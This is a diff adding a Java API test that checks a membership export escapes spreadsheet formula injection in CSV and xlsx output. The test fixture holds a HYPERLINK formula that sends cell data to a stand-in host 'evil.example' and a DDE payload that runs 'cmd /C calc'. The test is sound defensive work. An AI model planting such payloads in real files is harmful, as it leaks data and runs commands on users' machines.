@@ -115,6 +115,38 @@ class MemberExportApiTest {
         assertTrue(audit[1].toString().contains("xlsx"));
     }
 
+    /** Issue 11, point 7: a value typed as a formula comes out as text, in CSV and in xlsx. */
+    @Test
+    void cellsThatExcelWouldRunAsFormulasAreNeutralized() throws IOException {
+        List<String> evil = row(1, "Đinh Văn Mạnh", "Nam", nationalId());
+        evil.set(12, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")");
+        evil.set(13, "@SUM(1+1)*cmd|' /C calc'!A0");
+        evil.set(6, "-2+3");
+        given().auth().oauth2(TestTokens.blocAdmin())
+                .multiPart("file", "m.csv", MemberFiles.csv(',', false, HEADERS, List.of(evil)), "text/csv")
+                .queryParam("organizationId", cell.toString())
+                .when().post("/api/membership/members/imports").then().statusCode(200).body("imported", equalTo(1));
+
+        Response csv = given().auth().oauth2(TestTokens.blocAdmin()).queryParam("format", "csv")
+                .queryParam("organizationId", cell.toString()).queryParam("q", "dinh van manh").when().get(EXPORT);
+        csv.then().statusCode(200);
+        byte[] body = csv.asByteArray();
+        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(
+                new String(body, 3, body.length - 3, StandardCharsets.UTF_8))).getRecords();
+        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", records.get(1).get(12));
+        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", records.get(1).get(13));
+        assertEquals("'-2+3", records.get(1).get(6));
+        assertEquals("0912345678", records.get(1).get(9));
+
+        Response xlsx = given().auth().oauth2(TestTokens.blocAdmin())
+                .queryParam("organizationId", cell.toString()).queryParam("q", "dinh van manh").when().get(EXPORT);
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.asByteArray()))) {
+            var jobTitle = workbook.getSheetAt(0).getRow(1).getCell(12);
+            assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, jobTitle.getCellType());
+            assertTrue(jobTitle.getStringCellValue().startsWith("'="), jobTitle.getStringCellValue());
+        }
+    }
+
     @Test
     void secretaryGetsAFilteredCsvWithMaskedCccd() throws IOException {
         Response response = given().auth().oauth2(TestTokens.secretary(grassroots))
